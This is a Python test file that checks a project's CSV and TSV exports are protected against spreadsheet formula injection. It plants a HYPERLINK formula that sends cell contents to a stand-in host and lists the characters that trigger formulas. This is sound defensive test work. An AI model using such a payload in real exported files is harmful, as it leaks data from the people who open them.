"""Formula injection: what leaves for a spreadsheet is never run by one."""

from __future__ import annotations

import csv
import io
from collections.abc import Iterator

import pytest

from redcommons.values.text import cell
from tests.two_studies import World, body_of, two_studies, visits

FORMULA = '=HYPERLINK("//zq.example/"&A1,"x")'
STARTS = ("=", "+", "-", "@", "\t", "\r", "\uff1d", "\uff0b", "\uff0d", "\uff20")


@pytest.fixture(scope="module")
def world(tmp_path_factory: pytest.TempPathFactory) -> Iterator[World]:
    with two_studies(tmp_path_factory.mktemp("formulas"), "elsewhere", FORMULA) as made:
        yield made


def test_no_table_that_leaves_holds_a_formula(world: World) -> None:
    """Asks every page, and looks into each that answers with a table, whichever it may be."""
    tables = 0
    for _name, path, browser in visits(world, world.mine):
        for way in (path, path.replace("work.json", "work.csv")):
            answer = browser.get(way)
            kind = answer.headers.get("Content-Type", "")
            assert "spreadsheet" not in kind, "look into workbooks here as well"
            between = {"text/csv": ",", "text/tab-separated-values": "\t"}.get(kind.partition(";")[0])
            cells: list[str] = []
            if between:
                cells = [one for row in csv.reader(io.StringIO(body_of(answer)), delimiter=between) for one in row]
                assert [one for one in cells if one.lstrip().startswith(STARTS)] == []
            if kind.startswith("text/csv"):
                tables += 1
                assert any("HYPERLINK" in one for one in cells), "the formula should be there, as words"
                assert "attachment" in answer.headers["Content-Disposition"]

    assert tables, "no page gives a table any more: then this test proves nothing"


@pytest.mark.parametrize("start", STARTS)
@pytest.mark.parametrize("before", ["", " ", "\n", "\u3000", "\t "])
def test_whatever_a_spreadsheet_would_run_is_quoted(start: str, before: str) -> None:
    assert cell(f"{before}{start}1+1").startswith("'")


def test_plain_words_stay_as_they_are() -> None:
    assert [cell(text) for text in ("a=b", "3-4", "x@y", "")] == ["a=b", "3-4", "x@y", ""]
